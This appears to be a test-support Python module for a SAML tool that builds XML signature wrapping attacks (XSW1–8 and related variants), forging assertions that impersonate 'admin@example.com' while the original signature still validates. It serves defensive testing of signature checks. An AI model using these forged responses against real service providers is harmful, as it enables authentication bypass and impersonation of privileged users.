"""XML signature wrapping (XSW, docs/threat-model.md, "Signatures"): a signed response rearranged so the
signature still checks while an evil copy is what a careless SP reads.

The variants follow SAMLRaider's ``XSWHelpers`` and Somorovsky et al., USENIX Security
2012. This module also holds the small helpers every tampered response in
:mod:`support.attacks` is made with ("evil" means the NameID and e-mail attribute
changed to :data:`EVIL`). Builders take and return bytes; :mod:`support.attacks`
lists them in ``ATTACKS`` and re-exports them.
"""

from __future__ import annotations

import copy

from lxml import etree

from ssoctl import xmlsafe

EVIL = "admin@example.com"
DS = "http://www.w3.org/2000/09/xmldsig#"
_DS = "{" + DS + "}"
NS = xmlsafe.NS
ASSERTION = xmlsafe.qname("saml", "Assertion")
SIGNATURE = xmlsafe.qname("ds", "Signature")


def _parse(xml: bytes) -> etree._Element:
    return xmlsafe.parse(xml, what="test message")


def _out(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def make_evil(element: etree._Element, *, new_id: str | None = None) -> etree._Element:
    """Change NameID and e-mail attribute values inside ``element`` to :data:`EVIL`."""
    for nid in element.iter(xmlsafe.qname("saml", "NameID")):
        nid.text = EVIL
    for value in element.iterfind(".//saml:Attribute[@Name='email']/saml:AttributeValue", NS):
        value.text = EVIL
    if new_id:
        element.set("ID", new_id)
    return element


def _strip_sig(element: etree._Element) -> etree._Element:
    sig = element.find(SIGNATURE)
    if sig is not None:
        element.remove(sig)
    return element


def _assertion(root: etree._Element) -> etree._Element:
    return root.find(ASSERTION)


def _evil_copy(element: etree._Element, new_id: str = "idEVIL0000000000000000001") -> etree._Element:
    return make_evil(_strip_sig(copy.deepcopy(element)), new_id=new_id)


# ------------------------------------------------------------------- XSW (C9-C19)


def xsw1(xml: bytes) -> bytes:
    """C9: evil Response (new ID, keeps Signature); unsigned copy of the original inside ds:Signature."""
    orig = _parse(xml)
    evil = make_evil(copy.deepcopy(orig), new_id="idEVILRESPONSE00000000001")
    evil.find(SIGNATURE).append(_strip_sig(copy.deepcopy(orig)))
    return _out(evil)


def xsw2(xml: bytes) -> bytes:
    """C10: like XSW1, but the copy is a sibling before ds:Signature."""
    orig = _parse(xml)
    evil = make_evil(copy.deepcopy(orig), new_id="idEVILRESPONSE00000000001")
    evil.find(SIGNATURE).addprevious(_strip_sig(copy.deepcopy(orig)))
    return _out(evil)


def xsw3(xml: bytes) -> bytes:
    """C11: an evil Assertion (new ID, unsigned) before the signed one."""
    root = _parse(xml)
    signed = _assertion(root)
    signed.addprevious(_evil_copy(signed))
    return _out(root)


def xsw4(xml: bytes) -> bytes:
    """C12: an evil Assertion appended; the signed Assertion moved inside it."""
    root = _parse(xml)
    signed = _assertion(root)
    evil = _evil_copy(signed)
    root.remove(signed)
    evil.append(signed)
    root.append(evil)
    return _out(root)


def xsw5(xml: bytes) -> bytes:
    """C13: the signed Assertion made evil (keeps Signature, new ID); unsigned original appended."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed, new_id="idEVIL0000000000000000001")
    root.append(original)
    return _out(root)


def xsw6(xml: bytes) -> bytes:
    """C14: like XSW5, the unsigned original placed directly inside ds:Signature."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed, new_id="idEVIL0000000000000000001")
    signed.find(SIGNATURE).append(original)
    return _out(root)


def xsw6_object(xml: bytes) -> bytes:
    """C14 (variant signxml accepts): the original wrapped in ds:Object inside ds:Signature."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed, new_id="idEVIL0000000000000000001")
    obj = etree.SubElement(signed.find(SIGNATURE), _DS + "Object")
    obj.append(original)
    return _out(root)


def xsw7(xml: bytes) -> bytes:
    """C15: an Extensions element before the Assertion holds an evil copy with the same ID."""
    root = _parse(xml)
    signed = _assertion(root)
    ext = etree.Element(xmlsafe.qname("samlp", "Extensions"))
    ext.append(make_evil(_strip_sig(copy.deepcopy(signed))))
    signed.addprevious(ext)
    return _out(root)


def xsw8(xml: bytes) -> bytes:
    """C16: the signed Assertion made evil keeping its ID; the original in ds:Signature/ds:Object."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed)
    obj = etree.SubElement(signed.find(SIGNATURE), _DS + "Object")
    obj.append(original)
    return _out(root)


def hidden_in_extensions(xml: bytes) -> bytes:
    """C17: the signed Assertion hidden in samlp:Extensions; a forged top-level Assertion."""
    root = _parse(xml)
    signed = _assertion(root)
    forged = _evil_copy(signed)
    root.remove(signed)
    ext = etree.Element(xmlsafe.qname("samlp", "Extensions"))
    ext.append(signed)
    root.find(xmlsafe.qname("saml", "Issuer")).addnext(ext)
    root.append(forged)
    return _out(root)


def multiple_assertions(xml: bytes) -> bytes:
    """C18 (CVE-2022-41912): an unsigned evil copy appended after the signed Assertion."""
    root = _parse(xml)
    signed = _assertion(root)
    signed.addnext(_evil_copy(signed))
    return _out(root)


def foreign_root(xml: bytes) -> bytes:
    """C19: ``<Wrapper>{evil Assertion}{signed Response}</Wrapper>``."""
    root = _parse(xml)
    wrapper = etree.Element("Wrapper")
    wrapper.append(_evil_copy(_assertion(root)))
    wrapper.append(root)
    return _out(wrapper)
